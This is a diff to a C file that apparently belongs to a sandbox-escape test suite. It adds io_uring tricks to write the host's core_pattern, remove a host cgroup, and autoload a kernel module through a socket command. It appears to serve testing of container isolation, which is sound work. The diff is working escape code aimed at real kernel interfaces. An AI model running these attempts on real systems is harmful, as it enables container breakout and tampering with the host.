@@ -8,6 +8,8 @@
 #include <fcntl.h>
 #include <linux/io_uring.h>
 #include <linux/openat2.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <stddef.h>
 #include <stdio.h>
 #include <string.h>
@@ -24,14 +26,16 @@
 #define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
 #define SPARE_GROUP	"/sys/fs/cgroup/" SPARE
 
+#define MAX_REQUESTS	2
+
 /**
- * struct ring - an io_uring with room for one request
+ * struct ring - an io_uring
  *
  * @fd: its descriptor
  * @params: where what is
  * @sq: requests
  * @cq: results
- * @sqe: the request
+ * @sqe: the requests themselves
  */
 struct ring {
 	int fd;
@@ -47,7 +51,7 @@ static int ring_open(struct ring *ring)
 	const int flags = MAP_SHARED | MAP_POPULATE;
 
 	memset(ring, 0, sizeof(*ring));
-	ring->fd = syscall(SYS_io_uring_setup, 1, &ring->params);
+	ring->fd = syscall(SYS_io_uring_setup, MAX_REQUESTS, &ring->params);
 	if (ring->fd < 0)
 		return -1;
 	ring->sq = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_SQ_RING);
@@ -56,27 +60,47 @@ static int ring_open(struct ring *ring)
 	return 0;
 }
 
-/* Not in the thread that asks, but in a worker. */
+/*
+ * Not in the thread that asks, but in a worker. The first that fails is told
+ * of, else what the last one gives.
+ */
+static int ring_run(const struct ring *ring, const struct io_uring_sqe *sqe,
+		    int count)
+{
+	const struct io_uring_cqe *cqe =
+		(void *)(ring->cq + ring->params.cq_off.cqes);
+	unsigned int *array = (void *)(ring->sq + ring->params.sq_off.array);
+	int i;
+
+	for (i = 0; i < count; i++) {
+		ring->sqe[i] = sqe[i];
+		ring->sqe[i].flags |= IOSQE_ASYNC;
+		array[i] = i;
+	}
+	__atomic_add_fetch((unsigned int *)(ring->sq +
+					    ring->params.sq_off.tail), count,
+			   __ATOMIC_SEQ_CST);
+	if (syscall(SYS_io_uring_enter, ring->fd, count, count,
+		    IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+		return -1;
+	for (i = 0; i < count - 1 && cqe[i].res >= 0; i++)
+		;
+	errno = cqe[i].res < 0 ? -cqe[i].res : 0;
+	return cqe[i].res < 0 ? -1 : cqe[i].res;
+}
+
 static int ring_do(const struct io_uring_sqe *sqe)
 {
-	struct io_uring_cqe *cqe;
 	struct ring ring;
+	int ret, err;
 
 	if (ring_open(&ring))
 		return -1;
-	*ring.sqe = *sqe;
-	ring.sqe->flags |= IOSQE_ASYNC;
-	*(unsigned int *)(ring.sq + ring.params.sq_off.array) = 0;
-	__atomic_add_fetch((unsigned int *)(ring.sq +
-					    ring.params.sq_off.tail), 1,
-			   __ATOMIC_SEQ_CST);
-	if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS,
-		    NULL, 0) < 0)
-		return -1;
-	cqe = (struct io_uring_cqe *)(ring.cq + ring.params.cq_off.cqes);
+	ret = ring_run(&ring, sqe, 1);
+	err = errno;
 	close(ring.fd);
-	errno = cqe->res < 0 ? -cqe->res : 0;
-	return cqe->res < 0 ? -1 : cqe->res;
+	errno = err;
+	return ret;
 }
 
 static enum breakout_outcome wrote_core(int fd)
@@ -118,6 +142,45 @@ static enum breakout_outcome core_openat2(const struct breakout_attempt *a)
 	return wrote_core(ring_do(&sqe));
 }
 
+/*
+ * The file gets no descriptor: it is opened into a slot of the ring, and what is
+ * written to that slot is written when the first request is done.
+ */
+static enum breakout_outcome core_linked(const struct breakout_attempt *attempt)
+{
+	static const char text[] = "breakout.%p";
+	const struct io_uring_sqe sqe[2] = { {
+		.opcode = IORING_OP_OPENAT,
+		.flags = IOSQE_IO_LINK,
+		.fd = AT_FDCWD,
+		.addr = (unsigned long)CORE_PATTERN,
+		.open_flags = O_WRONLY,
+		.file_index = 1,
+	}, {
+		.opcode = IORING_OP_WRITE,
+		.flags = IOSQE_FIXED_FILE,
+		.fd = 0,
+		.addr = (unsigned long)text,
+		.len = sizeof(text) - 1,
+	} };
+	char old[512] = "", now[512] = "";
+	const int none = -1;
+	struct ring ring;
+
+	(void)attempt;
+	if (ring_open(&ring) || syscall(SYS_io_uring_register, ring.fd,
+					IORING_REGISTER_FILES, &none, 1))
+		return breakout_untried("no ring");
+	breakout_read(CORE_PATTERN, old, sizeof(old));
+	if (ring_run(&ring, sqe, 2) < 0)
+		return breakout_failed("io_uring");
+	breakout_read(CORE_PATTERN, now, sizeof(now));
+	breakout_write(CORE_PATTERN, old);
+	if (strcmp(now, text))
+		return breakout_untried("core_pattern is %s", now);
+	return breakout_escaped("core_pattern became %s", text);
+}
+
 static enum breakout_outcome group_mkdir(const struct breakout_attempt *attempt)
 {
 	static const char path[] = "/sys/fs/cgroup/breakout-uring";
@@ -141,15 +204,14 @@ static enum breakout_outcome group_rmdir(const struct breakout_attempt *attempt)
 	const struct io_uring_sqe sqe = {
 		.opcode = IORING_OP_UNLINKAT,
 		.fd = AT_FDCWD,
-		.addr = (unsigned long)SPARE_GROUP,
+		.addr = (unsigned long)LOST_GROUP,
 		.unlink_flags = AT_REMOVEDIR,
 	};
 
 	(void)attempt;
 	if (ring_do(&sqe))
 		return breakout_failed("io_uring");
-	if (mkdir(SPARE_GROUP, 0755) ||
-	    setxattr(SPARE_GROUP, SPARE_XATTR, "1", 1, 0))
+	if (mkdir(LOST_GROUP, 0755))
 		return breakout_untried("it does not come back");
 	return breakout_escaped("removed a cgroup of the host");
 }
@@ -263,10 +325,39 @@ static enum breakout_outcome receive(const struct breakout_attempt *attempt)
 	return breakout_prove_at(fd, &HOST_SECRET[1], &HOST_MARK[1]);
 }
 
+/*
+ * setsockopt(TCP_CONGESTION) as a command of the socket. Headers older than that
+ * do not name its fields.
+ */
+static enum breakout_outcome autoload(const struct breakout_attempt *attempt)
+{
+	static const char name[] = "dctcp";
+	const struct io_uring_sqe sqe = {
+		.opcode = IORING_OP_URING_CMD,
+		.fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0),
+		.off = 3, /* SOCKET_URING_OP_SETSOCKOPT */
+		.addr = IPPROTO_TCP | (unsigned long)TCP_CONGESTION << 32,
+		.file_index = sizeof(name) - 1,
+		.addr3 = (unsigned long)name,
+	};
+
+	(void)attempt;
+	if (breakout_module_loaded("tcp_dctcp"))
+		return breakout_untried("dctcp is in use");
+	if (ring_do(&sqe) && errno == EOPNOTSUPP)
+		return breakout_absent("commands of sockets");
+	close(sqe.fd);
+	return breakout_autoloaded("tcp_dctcp", ENOENT, "io_uring");
+}
+
 const struct breakout_attempt breakout_ring[] = {
 	{ "core-pattern-uring", "write core_pattern through io_uring",
 	  core_openat },
 	{ "core-pattern-uring2", "the same by openat2()", core_openat2 },
+	{ "core-pattern-uring-linked", "the same in a slot of the ring",
+	  core_linked },
+	{ "autoload-uring", "have a command of a socket load a module",
+	  autoload },
 	{ "cgroup2-mkdir-uring", "make a cgroup of the host through io_uring",
 	  group_mkdir },
 	{ "cgroup2-rmdir-uring", "remove one", group_rmdir },
